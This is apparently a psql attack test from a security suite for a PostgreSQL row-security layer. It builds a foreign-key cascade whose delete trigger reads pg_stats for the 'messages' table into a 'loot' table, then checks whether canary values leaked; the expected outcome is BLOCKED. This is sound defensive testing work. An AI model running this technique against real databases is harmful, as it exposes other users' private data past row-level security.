-- vector: below a foreign key's cascade the views on statistics take row security for lifted, and show everybody's values
-- class: read
-- actor: attacker
-- precondition: the application's role owns the table
-- expected with sessmem: BLOCKED
-- stopped by: statistics are refused where FORCE ROW SECURITY is lifted
-- severity: critical
\i :adapter
\ir _sane.sql
\ir _app_owns.sql
\set got ''
\c - :su
analyze public.messages;
grant create on schema public to :app;
\c - :app
create table public.p(id int primary key);
create table public.c(pid int references public.p on delete cascade);
create table public.loot(t text);
create function public.look() returns trigger language plpgsql as $$
begin
  insert into public.loot select attname || most_common_vals::text || histogram_bounds::text from pg_stats where tablename = 'messages';
  insert into public.loot select attname || coalesce(most_common_vals::text, '') || coalesce(histogram_bounds::text, '') from pg_stats where tablename = 'messages';
  return old;
end $$;
create trigger look before delete on public.c for each row execute function public.look();
insert into public.p values (1);
insert into public.c values (1);
delete from public.p;
select coalesce(string_agg(t, '|'), '') as got from public.loot \gset
\c - :su
select (:'got' like '%CANARY-B%' or :'got' like '%sess-B%') as leak \gset
\ir _verdict.sql
